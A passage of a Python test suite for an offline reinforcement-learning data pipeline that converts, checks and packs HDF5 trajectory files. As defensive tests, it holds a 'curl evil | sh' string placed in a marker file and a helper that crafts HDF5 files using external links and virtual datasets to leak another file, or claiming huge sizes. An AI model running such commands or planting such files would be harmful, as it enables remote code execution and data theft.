                        {name: value(k) for k, name in enumerate(data.episodes_in(folder))})
    mixture = lambda: data.Mixture(tmp_path, ["metaworld/reach-v3"], top_fraction=0.2)
    single = mixture()
    data.pack(tmp_path)
    packed = mixture()
    assert single.cards["metaworld/reach-v3"]["target_return"] == 203 == \
        packed.cards["metaworld/reach-v3"]["target_return"]
    assert single.train["metaworld"].tolist() == packed.train["metaworld"].tolist()
    assert min(packed.train["metaworld"]["episode"]) >= 24


def test_check_in_several_processes_says_the_same(tmp_path, capsys):
    """Of two tasks with a fault each."""
    for k, task in enumerate(("darkroom/train", "darkroom/heldout")):
        damage(write_task(tmp_path, [30, 30], task) / f"00000{k}.hdf5", "NaN")
    lines = []
    for processes in (1, 2):
        assert data.check(tmp_path, processes=processes) == 2
        lines.append(sorted(capsys.readouterr().out.splitlines()))
    assert lines[0] == lines[1]


def test_damaged_frames_are_refused_or_skipped(tmp_path, capsys):
    """Frames are read from the file when they are needed; so is what is wrong with them."""
    folder = tmp_path / "atari" / "freeway"
    folder.mkdir(parents=True)
    rng = np.random.default_rng(0)
    for k in range(3):
        states = rng.integers(0, 256, (60, 1, 64, 64)).astype(np.uint8)
        data.write_trajectory(folder / f"{k}.hdf5", states, rng.integers(0, 18, 60),
                              rng.random(60), False)
    mixture = data.Mixture(tmp_path, ["atari/freeway"])
    bad = mixture.train["atari"]["episode"][0]
    content = bytearray((folder / f"{bad}.hdf5").read_bytes())
    content[100_000:140_000] = bytes(40_000)            # in the middle of the frames
    (folder / f"{bad}.hdf5").write_bytes(content)
    with pytest.raises(SystemExit, match=f"{bad}.hdf5: damaged inside"):
        for step in range(20):
            mixture.sample("atari", 4, 8, 0, step)
    mixture = data.Mixture(tmp_path, ["atari/freeway"], on_bad="skip")
    for step in range(9):
        mixture.sample("atari", 4, 8, 0, step)
    assert capsys.readouterr().err.count("skipped") == 1
    assert data.check(tmp_path) == 1 and f"{bad}.hdf5" in capsys.readouterr().out


def test_what_replaces_a_bad_window_is_drawn_anew(tmp_path):
    """In no slot of a batch by the random numbers that drew the batch."""
    write_task(tmp_path, [400] * 3)
    mixture, drawn, draw = data.Mixture(tmp_path, ["darkroom/train"]), {}, data.Mixture.draw
    mixture.draw = lambda domain, context, rng: drawn.setdefault(rng, []).append(
        draw(mixture, domain, context, rng)) or drawn[rng][-1]
    window, count = mixture.window, iter(range(99))
    mixture.window = lambda *args: None if next(count) % 2 == 0 else window(*args)  # first tries
    mixture.sample("darkroom", 4, 8, 0, 0)
    plan, *spares = drawn.values()
    assert len(plan) == len(spares) == 4 and not any(spare[0] in plan for spare in spares)


def test_public_files_are_read(tmp_path):
    """Public variations: a scalar `dones`, returns-to-go present, RGB images made gray by luma."""
    path = tmp_path / "x.hdf5"
    image = np.random.RandomState(0).randint(0, 256, (5, 3, 64, 64), dtype=np.uint8)
    with h5py.File(path, "w") as f:
        f["states"], f["actions"], f["rewards"] = image, np.arange(5), np.ones(5, np.float32)
        f["dones"], f["returns_to_go"] = True, np.arange(5, 0, -1).astype(np.float32)
    trajectory = data.open_trajectory(path)
    gray = data.to_gray(trajectory.states[1:3])
    assert gray.shape == (2, 1, 64, 64) and gray.dtype == np.uint8
    luma = image[1:3, 0] * 0.299 + image[1:3, 1] * 0.587 + image[1:3, 2] * 0.114
    assert np.abs(gray[:, 0] - luma).max() <= 0.5 + 1e-6
    assert trajectory.returns_to_go.tolist() == [5, 4, 3, 2, 1]


def download(root, names, lengths, seed=0):
    """Task folders as the public data have them: no domain, no card, scalar `dones`."""
    rng = np.random.default_rng(seed)
    for name in names:
        (Path(root) / name).mkdir(parents=True)
        for k, T in enumerate(lengths):
            with h5py.File(Path(root) / name / f"{k:09d}.hdf5", "w") as f:
                f["states"] = rng.normal(size=(T, 39)).astype(np.float32)
                f["actions"] = rng.uniform(-1, 1, (T, 4)).astype(np.float32)
                f["rewards"], f["dones"] = rng.random(T).astype(np.float32), True
                f["returns_to_go"] = np.cumsum(f["rewards"][:][::-1])[::-1]


@pytest.mark.parametrize("task,folders", (
    ("metaworld/reach-v3", ("reach-v2", "metaworld/reach_v2", "reach-v3", "Reach",
                            "metaworld/reach-v3")),
    ("atari/ms_pacman", ("ms-pacman", "MsPacmanNoFrameskip-v4", "atari/MsPacman")),
    ("mimicgen/Panda_Stack_D0", ("stack_d0", "mimicgen/Stack-D0", "mimicgen/Panda_Stack_D0")),
    ("dmcontrol/finger-turn_easy", ("finger_turn_easy", "dmcontrol/finger-turn-easy"))))
def test_downloads_are_found(task, folders, tmp_path):
    """Under the spellings of their names, with a domain's folder above them or without."""
    for k, folder in enumerate(folders):
        download(tmp_path / str(k), [folder, "reach-wall-v2", "metaworld/push-v2"], [3])
        assert data.find_folder(tmp_path / str(k), task) == tmp_path / str(k) / folder
    assert data.find_folder(tmp_path, task) == tmp_path / task      # where they would be made


def test_downloads_are_trained_on_as_they_are(tmp_path, monkeypatch):
    """Nothing is generated, no file of theirs is touched; what was learned about them is kept."""
    monkeypatch.chdir(tmp_path)
    folder = "reach-v2"
    download("d", [folder, "push-v2"], [20, 30, 25])
    before = {path: path.stat().st_mtime_ns for path in Path("d").rglob("*.hdf5")}
    train.main(train.Args(tasks=("metaworld/reach-v3",), data_root=Path("d"), steps=2, warmup=1,
                          batch_size=2, episodes=0, layers=1))
    assert before == {path: path.stat().st_mtime_ns for path in Path("d").rglob("*.hdf5")}
    kept = {path.name for path in Path("d").rglob("*.json")}
    assert kept == {"statistics.json", "found_lengths.json"}
    with monkeypatch.context() as patch:                # a second start opens no trajectory
        patch.setattr(data, "open_hdf5", mock.Mock(side_effect=AssertionError))
        assert data.Mixture("d", ["metaworld/reach-v3"]).names["metaworld/reach-v3"].size == 3
    Path("d", folder, "statistics.json").write_text('{"files": 3, "returns": 1}')
    with pytest.raises(SystemExit, match="statistics.json: .*delete it"):
        data.load_card(Path("d", folder), "metaworld/reach-v3")
    Path("d", folder, "statistics.json").unlink()
    card = lram.load_checkpoint("runs/mlstm/checkpoint.pt")["cards"]["metaworld/reach-v3"]
    rewards, states = [], []
    for path in sorted(Path("d", folder).glob("*.hdf5")):
        with h5py.File(path) as f:
            rewards.append(f["rewards"][:].sum())
            states.append(f["states"][:])
    assert np.isclose(card["target_return"], max(rewards)) and card["reward_scale"] == 200
    assert np.isclose(card["reference_score"], np.mean(rewards))
    assert np.isclose(card["random_score"], min(rewards)) and card["action"]["dims"] == 4
    assert np.allclose(card["state_mean"], np.concatenate(states).mean(0), atol=1e-5)
    assert data.check("d", domain="metaworld") == 0
    download("more", [folder], [20, 30, 25, 40])            # the download goes on: seen
    shutil.copy("more/reach-v2/000000003.hdf5", Path("d", folder))
    mixture = data.Mixture("d", ["metaworld/reach-v3"])
    assert mixture.names["metaworld/reach-v3"].size == 4
    assert mixture.cards["metaworld/reach-v3"]["target_return"] > card["target_return"]


def test_images_of_downloads_become_gray_in_the_card(tmp_path):
    """RGB files under an Atari name with hyphens: the card says (1, 64, 64) and all 18 actions."""
    folder = tmp_path / "ms-pacman"
    folder.mkdir()
    image = np.random.RandomState(0).randint(0, 256, (5, 3, 64, 64), dtype=np.uint8)
    with h5py.File(folder / "000000000.hdf5", "w") as f:
        f["states"], f["actions"], f["rewards"] = image, np.arange(5), np.ones(5, np.float32)
        f["dones"] = True
    assert data.find_folder(tmp_path, "atari/ms_pacman") == folder
    card = data.load_card(folder, "atari/ms_pacman")
    assert card["observation"]["shape"] == [1, 64, 64] and card["action"]["n"] == 18
    assert np.allclose(card["state_mean"], data.to_gray(image).mean(0), atol=1e-5)


# ----------------------------------------------------------------------------- public data formats
def known_episodes(lengths, widths=(6,), A=3, seed=0):
    """[({width: states}, actions, rewards, terminated)]; the last one is incomplete."""
    rng = np.random.default_rng(seed)
    return [([rng.normal(size=(T + 1, w)).astype(np.float32) for w in widths],
             rng.uniform(-1, 1, (T, A)).astype(np.float32), rng.random(T).astype(np.float32),
             k + 1 < len(lengths)) for k, T in enumerate(lengths)]


def write_minari(path):
    """Nested observations, of which there is one more than actions; ends as they may be."""
    episodes = known_episodes((7, 1, 12, 5), (2, 3, 4))
    (path / "data").mkdir(parents=True)
    with h5py.File(path / "data" / "main_data.hdf5", "w") as f:
        for k, ((goal, arm, hand), actions, rewards, end) in enumerate(episodes):
            e = f.create_group(f"episode_{k * 6}")          # 0, 6, 12, 18: 12 before 6 as words
            e["observations/goal"], e["observations/z/hand"] = goal, hand
            e["observations/z/arm"], e["actions"], e["rewards"] = arm, actions, rewards
            e["terminations"] = np.arange(len(rewards)) == (len(rewards) - 1 if end else -1)
            e["truncations"] = np.zeros(len(rewards), bool)
    return [(f"{k * 6:06d}", np.concatenate(o, 1)[:-1], a, r, end)
            for k, (o, a, r, end) in enumerate(episodes)]


def write_robomimic(path):
    """Observations by key, joined in the order hand, gripper, object; an image that is not read."""
    episodes = known_episodes((9, 4, 6), (3, 4, 2, 5))
    with h5py.File(path, "w") as f:
        for k, (parts, actions, rewards, end) in enumerate(episodes):
            demo = f.create_group(f"data/demo_{(2, 10, 1)[k]}")
            for key, x in zip(data.ROBOMIMIC_KEYS, parts):
                demo[f"obs/{key}"] = x[:-1]
            demo["obs/agentview_image"] = np.zeros((len(rewards), 8, 8, 3), np.uint8)
            demo["actions"], demo["rewards"] = actions, rewards
            demo["dones"] = (np.arange(len(rewards)) == len(rewards) - 1) * int(end)
    known = [(f"{(2, 10, 1)[k]:06d}", np.concatenate(o, 1)[:-1], a, r, end)
             for k, (o, a, r, end) in enumerate(episodes)]
    return sorted(known)


def write_flat(path, lengths, timeouts):
    """One stream; the second episode runs out of time, the last stops with the file."""
    episodes = known_episodes(lengths)
    with h5py.File(path, "w") as f:
        f["observations"] = np.concatenate([o[0][:-1] for o, _, _, _ in episodes])
        f["actions"] = np.concatenate([a for _, a, _, _ in episodes])
        f["rewards"] = np.concatenate([r for _, _, r, _ in episodes])
        last = np.cumsum(lengths) - 1
        where = lambda k: np.isin(np.arange(sum(lengths)), last[list(k)])
        f["terminals"] = where((0, 2)) if timeouts else where(())
        if timeouts:
            f["timeouts"] = where((1,))
    return [(f"{k:06d}", o[0][:-1], a, r, timeouts and k in (0, 2))
            for k, (o, a, r, _) in enumerate(episodes)]


FORMATS = {
    "minari": ("robots/known", write_minari), "robomimic": ("robots/known", write_robomimic),
    "d4rl": ("robots/known", partial(write_flat, lengths=(7, 20, 1, 5), timeouts=True)),
    "composuite": ("robots/known", partial(write_flat, lengths=(500, 500, 30), timeouts=False))}


@pytest.mark.parametrize("format", FORMATS)
def test_public_formats_are_converted_exactly(format, tmp_path, monkeypatch, capsys):
    """To the last bit, the incomplete episode at the end too; after a kill the same as without."""
    task, write = FORMATS[format]
    known = write(tmp_path / "source")
    args = data.Convert(format, tmp_path / "source", task, tmp_path / "d")
    write_trajectory, count = data.write_trajectory, []

    def killed(path, *rest):
        count.append(path)
        if len(count) == 3:
            (path.parent / f"{path.name}.tmp").write_bytes(b"half")
            raise KeyboardInterrupt
        write_trajectory(path, *rest)
    monkeypatch.setattr(data, "write_trajectory", killed)
    with pytest.raises(SystemExit, match="continues"):
        data.convert(args)
    folder = tmp_path / "d" / task
    with pytest.raises(SystemExit, match="unfinished conversion"):  # training would make data
        data.is_public(folder)
    stamps = {path: path.stat().st_mtime_ns for path in folder.glob("*.hdf5")}
    assert len(stamps) == 2
    assert data.convert(args) == len(known) and len(count) == len(known) + 1
    assert all(path.stat().st_mtime_ns == stamp for path, stamp in stamps.items())
    assert data.episodes_in(folder) == [name for name, *_ in known]
    for name, states, actions, rewards, end in known:
        with h5py.File(folder / f"{name}.hdf5") as f:
            assert np.array_equal(f["states"], states) and np.array_equal(f["rewards"], rewards)
            assert np.array_equal(f["actions"], actions)
            assert f["dones"][:].tolist() == [False] * (len(rewards) - 1) + [end]
    returns = [float(r.sum()) for _, _, _, r, _ in known]
    card = data.load_card(folder)
    assert np.isclose(card["target_return"], max(returns), atol=1e-3)
    assert np.isclose(card["reference_score"], np.mean(returns), atol=1e-3)
    assert np.isclose(card["random_score"], min(returns), atol=1e-3)
    assert np.allclose(card["state_mean"], np.concatenate([s for _, s, *_ in known]).mean(0),
                       atol=1e-4)
    assert data.is_public(folder) and data.check(tmp_path / "d") == 0
    assert data.convert(args) == len(known) and "complete" in capsys.readouterr().out


def test_converted_data_of_an_unknown_domain_are_trained_on(tmp_path, monkeypatch, capsys):
    """Without a simulator there is no score, and nothing is generated."""
    monkeypatch.chdir(tmp_path)
    write_flat(tmp_path / "flat.hdf5", (30, 40, 20, 30), timeouts=True)
    data.main(data.Convert("d4rl", Path("flat.hdf5"), "robots/known"))
    train.main(train.Args(tasks=("robots/known",), steps=2, warmup=1, batch_size=2, layers=1))
    out = capsys.readouterr()
    assert "robots/known cannot be scored" in out.err and "validation perplexity" in out.out
    assert len(list(Path("datasets/robots/known").glob("*.hdf5"))) == 4


def test_data_of_another_world_are_not_scored():
    """Converted for a task of ours, but with other observations or actions; or a task we lack."""
    card = dark_card(source="downloaded")
    assert worlds.cannot_play("darkroom/train", card) is None
    for change in ({"observation": {"kind": "vector", "shape": [3]}},
                   {"action": {"kind": "discrete", "n": 4}}):
        assert "in the simulator" in worlds.cannot_play("darkroom/train", card | change)
    assert "does not have" in worlds.cannot_play("darkroom/third", card)


def test_public_data_of_rebuilt_worlds_are_not_scored(monkeypatch):
    """Whatever their shapes: CompoSuite's and MimicGen's simulators are others than ours."""
    monkeypatch.setattr(worlds, "unavailable", lambda task: None)
    spec = {"observation": {"kind": "vector", "shape": [93]},
            "action": {"kind": "continuous", "dims": 8}}
    monkeypatch.setattr(worlds, "world_spec", lambda task: spec)
    for source, rebuilt in (("downloaded", True), ({"format": "composuite"}, True),
                            ({"format": "robomimic"}, False)):
        card = {**spec, "source": source, "made_by": "others"}
        for task in ("composuite/IIWA_Box_None_Push", "mimicgen/Panda_Lift_D0"):
            assert ("rebuilt" in (worlds.cannot_play(task, card) or "")) == rebuilt
        assert worlds.cannot_play("metaworld/reach-v3", card) is None
    assert worlds.cannot_play("composuite/IIWA_Box_None_Push", {**spec, "made_by": "us"}) is None


def test_conversion_over_something_begun(tmp_path, monkeypatch):
    """Of a folder that `make` has begun without data; continued with another spelling of the same
    source, refused with another source.
    """
    monkeypatch.chdir(tmp_path)
    known, folder = write_flat(Path("s"), (7, 5, 6), True), Path("d/robots/known")
    folder.mkdir(parents=True)
    (folder / data.UNFINISHED).write_text("{}")
    args = data.Convert("d4rl", Path("s"), "robots/known", Path("d"))
    write, count = data.write_trajectory, iter(range(9))
    monkeypatch.setattr(data, "write_trajectory", lambda *episode: write(*episode)
                        if next(count) < 2 else (_ for _ in ()).throw(KeyboardInterrupt))
    with pytest.raises(SystemExit, match="continues"):
        data.convert(args)
    shutil.copy("s", "other")
    with pytest.raises(SystemExit, match="holds other data"):
        data.convert(replace(args, source=Path("other")))
    stamps = [path.stat().st_mtime_ns for path in sorted(folder.glob("*.hdf5"))]
    monkeypatch.setattr(data, "write_trajectory", write)
    assert data.convert(replace(args, source=Path("s").absolute())) == len(known) == 3
    assert [path.stat().st_mtime_ns for path in sorted(folder.glob("*.hdf5"))][:2] == stamps


def hostile(group, key, secret, how):
    """Puts a data set into `group` that shows the bytes of the file `secret`, or those of a data
    set "x" in it; or one that claims more than there is.
    """
    group.pop(key, None)
    if how == "external storage":
        group.create_dataset(key, (16, 1), np.float32, external=[(str(secret), 0, 64)])
    elif how == "virtual":
        layout = h5py.VirtualLayout((16, 1), np.float32)
        layout[:] = h5py.VirtualSource(str(secret), "x", (16, 1))
        group.create_virtual_dataset(key, layout)
    elif how == "external link":
        group[key] = h5py.ExternalLink(str(secret), "x")
    elif how == "soft link":
        group[key] = h5py.SoftLink("/elsewhere")
    else:
        group.create_dataset(key, (12_000_000, 1), np.float32, chunks=(1000, 1))


@pytest.mark.parametrize("how,words", (
    ("external storage", "points elsewhere"), ("virtual", "points elsewhere"),
    ("external link", "points elsewhere"), ("soft link", "points elsewhere"),
    ("steps", "claims .12000000, 1. values")))
def test_no_file_shows_another(how, words, tmp_path):
    """Neither as a trajectory nor as a source of any format: refused before a value is read."""
    secret = tmp_path / "secret"
    with h5py.File(secret, "w") as f:
        f["x"] = np.full((16, 1), 7, np.float32)
    path = tmp_path / "t.hdf5"
    data.write_trajectory(path, np.zeros((16, 1), np.float32), np.zeros((16, 1), np.float32),
                          np.zeros(16), True)
    for key in ("states", "actions"):
        shutil.copy(path, tmp_path / "x.hdf5")
        with h5py.File(tmp_path / "x.hdf5", "r+") as f:
            hostile(f, key, secret, how)
        with pytest.raises(data.BadTrajectory, match=f"{key} .*{words}"):
            data.open_trajectory(tmp_path / "x.hdf5")
    for k, (format, group, key) in enumerate((
            ("minari", "episode_0", "actions"), ("minari", "episode_0/observations", "goal"),
            ("robomimic", "data/demo_1/obs", "object"), ("robomimic", "data/demo_1", "rewards"),
            ("d4rl", "/", "observations"), ("d4rl", "/", "timeouts"))):
        source = tmp_path / str(k)
        FORMATS[format][1](source)
        with h5py.File(source / "data/main_data.hdf5" if format == "minari" else source, "r+") as f:
            hostile(f[group], key, secret, how)
        args = data.Convert(format, source, "robots/x", tmp_path / "d")
        with pytest.raises(SystemExit, match=f"{key} .*{words}"):
            data.convert(args)
        assert not data.has_data(tmp_path / "d/robots/x")


def test_unfinished_folders_are_named(tmp_path, capsys):
    """By `check`, without a file in them too, and by `pack`, which leaves them alone. What stands
    in the mark is never printed: it may be a stranger's.
    """
    folder = tmp_path / "robots/x"
    folder.mkdir(parents=True)
    evil = {"command": "curl evil | sh convert", "source": {"source": "curl evil | sh"}}
    (folder / data.UNFINISHED).write_text(json.dumps(evil))
    assert data.check(tmp_path) == 1
    data.write_trajectory(folder / "0.hdf5", np.zeros((5, 2), np.float32), np.zeros(5, int),
                          np.zeros(5), True)
    data.pack(tmp_path)
    assert data.check(tmp_path) == 1 and not (folder / "pack.h5").exists()
    with pytest.raises(SystemExit) as error:
        data.is_public(folder)
    out = capsys.readouterr().out + str(error.value)
    assert out.count("incomplete") == 2 and "evil" not in out
    assert "x: unfinished, so it is not packed" in out and "an unfinished conversion" in out


def test_names_of_converted_tasks(tmp_path):
    """As everywhere else for gymnasium's worlds, and none outside of --root."""
    write_flat(tmp_path / "s", (7, 5, 6), True)
    args = data.Convert("d4rl", tmp_path / "s", "gym:Known-v0", tmp_path / "d")
    assert data.convert(args) == 3 and data.has_data(tmp_path / "d/gym/Known-v0")
    for task in ("../x", "a/../../x", "/tmp/x", "x", "x/"):
        with pytest.raises(SystemExit, match="must be domain/task"):
            data.convert(replace(args, task=task))


def test_streams_without_time_outs_are_asked_for_their_limit(tmp_path):
    """Or episodes that ran out of time would be read as one."""
    ends = np.zeros(60, bool)
    ends[34] = True                                     # 20 + 15 (a fall) + 20 + 5 steps
    with h5py.File(tmp_path / "s", "w") as f:
        f["observations"], f["actions"], f["rewards"] = np.zeros((60, 3)), np.zeros((60, 2)), ends
        f["terminals"] = ends
    args = data.Convert("d4rl", tmp_path / "s", "robots/known", tmp_path / "d")
    with pytest.raises(SystemExit, match="no timeouts; give .*--episode-steps"):
        data.convert(args)
    data.convert(replace(args, episode_steps=20))
    lengths = json.loads((tmp_path / "d/robots/known/episode_lengths.json").read_text())
    assert list(lengths.values()) == [20, 15, 20, 5]


def test_demonstrations_end_where_their_world_ends(tmp_path, monkeypatch):
    """At the first success, so that a perfect agent can reach the reference; elsewhere whole."""
    with h5py.File(tmp_path / "s", "w") as f:
        for k, first in enumerate((6, 3)):
            demo, T = f.create_group(f"data/demo_{k}"), 10
            for key in data.ROBOMIMIC_KEYS:
                demo[f"obs/{key}"] = np.zeros((T, 2), np.float32)
            demo["actions"], demo["rewards"] = np.zeros((T, 7)), np.arange(T) >= first
            demo["dones"] = np.arange(T) == T - 1
    args = data.Convert("robomimic", tmp_path / "s", "mimicgen/Panda_Lift_D0", tmp_path / "d")
    read = [(len(s), len(a), r.tolist(), end) for _, s, a, r, end in data.read_robomimic(args, ())]
    assert read == [(7, 7, [0] * 6 + [1], True), (4, 4, [0] * 3 + [1], True)]
    other = replace(args, task="robots/lift")
    assert [len(r) for *_, r, _ in data.read_robomimic(other, ())] == [10, 10]


def test_sources_that_need_another_step_say_which(tmp_path):
    """Demonstrations without observations, and Minari's other format."""
    with h5py.File(tmp_path / "demo.hdf5", "w") as f:
        f["data/demo_1/actions"] = np.zeros((5, 7))
    args = data.Convert("robomimic", tmp_path / "demo.hdf5", "robots/x", tmp_path / "d")
    with pytest.raises(SystemExit, match="robomimic's dataset_states_to_obs.py"):
        data.convert(args)
    (tmp_path / "set/data").mkdir(parents=True)
    with pytest.raises(SystemExit, match="its arrow format is not read"):
        data.convert(replace(args, format="minari", source=tmp_path / "set"))


def test_folders_of_gym_ids_with_a_slash(tmp_path):
    """Are the task that they were made as."""
    assert data.task_name(tmp_path / "gym/ALE/Pong-v5") == "gym/ALE/Pong-v5"
    assert data.task_name(tmp_path / "gym/CartPole-v1") == "gym/CartPole-v1"
    assert data.task_name(tmp_path / "reach-v2", "metaworld") == "metaworld/reach-v2"


@pytest.mark.parametrize("how", ("pipe", "terabytes", "link"))
def test_odd_files_without_an_index_do_not_stop_a_start(how, tmp_path):
    """They are named when their turn comes, and skipped on request."""
    folder = write_task(tmp_path, [30, 30, 30])
    (folder / "episode_lengths.json").unlink()
    damage(folder / "000002.hdf5", how)
    mixture = data.Mixture(tmp_path, ["darkroom/train"], on_bad="skip", top_fraction=0.9)
    assert mixture.sample("darkroom", 4, 8, 0, 0)["obs"].shape[0] == 4
    assert not (folder / "found_lengths.json").exists()         # nothing false is kept
    (folder / "task.json").unlink()
    os.mkfifo(folder / "task.json")
    assert data.check(tmp_path) == 2


def test_tuples_are_joined_by_their_numbers(tmp_path):
    """As gymnasium flattens them: 10 after 9."""
    space = gym.spaces.Tuple([gym.spaces.Box(-99, 99, (1,), np.float32)] * 12)
    with h5py.File(tmp_path / "x", "w") as f:
        for k in range(12):
            f[f"o/_index_{k}"] = np.full((1, 1), k, np.float32)
        assert data.flatten(f["o"]).tolist() == [gym.spaces.flatten(
            space, tuple(np.full(1, k, np.float32) for k in range(12))).tolist()]


def test_broken_sources_are_named(tmp_path, monkeypatch):
    """Truncated files and groups where arrays should be; a full disk is not called broken."""
    write_minari(tmp_path / "s")
    args = data.Convert("minari", tmp_path / "s", "robots/known", tmp_path / "d")
    with monkeypatch.context() as patch:
        patch.setattr(data, "write_trajectory", mock.Mock(side_effect=OSError(28, "No space")))
        with pytest.raises(SystemExit, match="No space"):
            data.convert(args)
    with h5py.File(tmp_path / "s/data/main_data.hdf5", "r+") as f:
        del f["episode_12/rewards"]
    with pytest.raises(SystemExit, match="cannot be read as minari after episode 000006: .*has no"):
        data.convert(args)
    whole = (tmp_path / "s/data/main_data.hdf5").read_bytes()
    (tmp_path / "s/data/main_data.hdf5").write_bytes(whole[:len(whole) // 2])
    with pytest.raises(SystemExit, match="cannot be read as minari after episode nothing"):
        data.convert(args)
    with h5py.File(tmp_path / "flat.hdf5", "w") as f:
        f.create_group("terminals")
        f["timeouts"] = np.zeros(3, bool)
    with pytest.raises(SystemExit, match="cannot be read as d4rl after episode nothing"):
        data.convert(replace(args, format="d4rl", source=tmp_path / "flat.hdf5", task="a/b"))


def test_actions_of_another_range(tmp_path):
    """Refused with their range; rescaled or cut off on request. What was written under other
    settings is not deleted, but refused.
    """
    rng = np.random.default_rng(0)
    wide = [rng.uniform(-1, 1, (9, 2)), rng.uniform(-2, 6, (9, 2)), rng.uniform(-1, 1, (9, 2))]
    wide[2][4] = -2.5, 7
    with h5py.File(tmp_path / "s", "w") as f:
        f["observations"], f["rewards"] = rng.normal(size=(27, 3)), np.ones(27)
        f["actions"], f["terminals"] = np.concatenate(wide), np.arange(27) % 9 == 8
        f["timeouts"] = np.zeros(27, bool)
    args = data.Convert("d4rl", tmp_path / "s", "robots/wide", tmp_path / "d")
    with pytest.raises(SystemExit, match="first 3 episodes .*between -2.5 and 7: .*--clip-actions"):
        data.convert(args)
    folder = tmp_path / "d/robots/wide"
    scaled = replace(args, action_low=(-3.0,), action_high=(7.0, 9.0))
    with pytest.raises(SystemExit, match="with other settings; delete it"):
        data.convert(scaled)
    assert data.episodes_in(folder) == ["000000"]
    shutil.rmtree(folder)
    written = lambda k: h5py.File(folder / f"{k:06d}.hdf5")["actions"][:]
    assert data.convert(scaled) == 3
    for k, actions in enumerate(wide):
        assert np.allclose(written(k), (actions + 3) / np.array([5, 6]) - 1, atol=1e-6)
    with pytest.raises(SystemExit, match="other data"):
        data.convert(replace(args, clip_actions=True))
    shutil.rmtree(folder)
    assert data.convert(replace(args, clip_actions=True)) == 3
    assert all(np.allclose(written(k), np.clip(a, -1, 1)) for k, a in enumerate(wide))


def test_generation_resumes_and_repeats(tmp_path, monkeypatch):
    """A missing episode is made again, bit for bit, and only it; the card measures the expert."""
    monkeypatch.chdir(tmp_path)
    data.make(["darkroom/train"], "d", episodes=12, processes=1)
    folder = Path("d/darkroom/train")
    victim, witness = folder / "000005.hdf5", folder / "000006.hdf5"
    with h5py.File(victim) as f:
        before = {k: f[k][:] for k in f}
    stamp = witness.stat().st_mtime_ns
    victim.unlink()
    (folder / "000007.hdf5.tmp").write_bytes(b"half")               # what a kill leaves behind
    data.make(["darkroom/train"], "d", episodes=12, processes=1)
    with h5py.File(victim) as f:
        assert all(np.array_equal(before[k], f[k][:]) for k in before)
    assert witness.stat().st_mtime_ns == stamp
    card = data.load_card(folder)
    assert card["target_return"] == 80.0 and card["constant_rtg"]
    env = worlds.DarkRoom("train")
    index = lambda row, col: row * 10 + (col if row % 2 == 0 else 9 - col)
    assert np.isclose(card["reference_score"], np.mean([100 - index(*g) for g in env.goals]))
    lengths = json.loads((folder / "episode_lengths.json").read_text())
    # and the first five whose names are held out, whatever else is made
    assert lengths == {f"{k:06d}": 100 for k in (*range(12), 16, 22, 44, 53, 71)}
    for root, more in (("d", 30), ("e", 0)):
        data.make(["darkroom/train"], root, episodes=12 + more, processes=1)
    held = [{m.names["darkroom/train"][k] for k in m.validation["darkroom"]["episode"]} for m in (
        data.Mixture(root, ["darkroom/train"]) for root in ("d", "e"))]
    assert held[0] == held[1] == {b"000000", b"000016", b"000022", b"000044", b"000053", b"000071"}
    card = data.load_card(folder)
    states = np.concatenate([h5py.File(p)["states"][:] for p in sorted(folder.glob("*.hdf5"))])
    assert np.allclose(card["state_mean"], states.mean(0)) and \
        np.allclose(card["state_std"], states.std(0, dtype=np.float64))
    assert card["target_return"] / card["reward_scale"] == 4         # not 80: see Domain.made_scale


def test_making_may_be_killed_anywhere(tmp_path, monkeypatch):
    """Before the first and after the last file: never taken for a download, nor for finished; a
    task that does not exist leaves no folder.
    """
    make = partial(data.make, ["darkroom/train"], tmp_path, processes=1)
    folder = tmp_path / "darkroom/train"
    with monkeypatch.context() as patch:
        patch.setattr(data, "_run", mock.Mock(side_effect=KeyboardInterrupt))
        with pytest.raises(KeyboardInterrupt):
            make(episodes=2)
    assert not (folder / "task.json").exists() and not data.is_public(folder)
    with monkeypatch.context() as patch:
        patch.setattr(Path, "unlink", mock.Mock(side_effect=KeyboardInterrupt))
        with pytest.raises(KeyboardInterrupt):
            make(episodes=2)
    assert (folder / data.UNFINISHED).exists()
    make(episodes=2)
    assert data.check(tmp_path) == 0
    with pytest.raises(SystemExit, match="split is 'none'"):
        data.make(["darkroom/none"], tmp_path)
    assert not (tmp_path / "darkroom/none").exists()


def test_held_out_tasks_need_none_that_is_like_them(tmp_path):
    """The paper holds out pendulum-swingup, whose 3 numbers no task of its training split has."""
    pytest.importorskip("dm_control")
    finish = partial(data._finish_task, measured={"expert": {0: 2.0}, "random": {0: 1.0}})
    folder = tmp_path / "dmcontrol/pendulum-swingup"
    folder.mkdir(parents=True)
    finish("dmcontrol/pendulum-swingup", folder)
    card = data.load_card(folder)
    assert card["state_mean"] == [0.0] * 3 and card["state_std"] == [1.0] * 3


def test_a_domain_brings_its_default_held_out_card(tmp_path):
    """As --help says, also where darkroom/train is named by its domain (or by "laptop")."""
    data.main(data.Make(tasks=("darkroom",), root=tmp_path, episodes=2, processes=1))
    assert (tmp_path / "darkroom/heldout/task.json").exists()


def test_histories_are_of_agents_that_learn(tmp_path, monkeypatch):
    """Replayed in the world step by step; returns-to-go by episode; the curve rises to the top."""
    episodes = 200
    monkeypatch.setattr(data, "q_learning", partial(data.q_learning, episodes=episodes))
    data.q_learning_histories("darkroom/histories", tmp_path, [2, 5], None)
    env, curves = worlds.DarkRoom("train"), []
    for goal in (2, 5):
        t = data.open_trajectory(tmp_path / f"{goal:06d}.hdf5")
        assert len(t.rewards) == 100 * episodes
        assert np.flatnonzero(t.dones).tolist() == list(range(99, 100 * episodes, 100))
        for k in (0, 1, episodes - 1):
            here = slice(100 * k, 100 * (k + 1))
            obs, _ = env.reset(options={"goal": goal}, seed=0)
            for state, action, reward in zip(t.states[here], t.actions[here], t.rewards[here]):
                assert np.array_equal(obs, state)
                obs, r, *_ = env.step(action)
                assert r == reward
        returns = t.rewards.reshape(episodes, 100)
        for step in (0, 1, 57, 99):
            assert np.allclose(t.returns_to_go.reshape(episodes, 100)[:, step],
                               returns[:, step:].sum(1))
        curves.append(returns.sum(1))
        shortest = 101 - sum(env.goals[goal])           # the return of the shortest way
        assert 0.9 * shortest <= curves[-1][-10:].mean() <= shortest
    rise = np.mean(curves, 0)
    assert rise[:20].mean() < 20 < rise[60:100].mean() < rise[120:150].mean() < rise[-20:].mean()
    (tmp_path / "alone").mkdir()
    data.q_learning_histories("darkroom/histories", tmp_path / "alone", [5], None)
    alone = data.open_trajectory(tmp_path / "alone" / "000005.hdf5")
    assert np.array_equal(alone.actions, t.actions) and np.array_equal(alone.states, t.states)


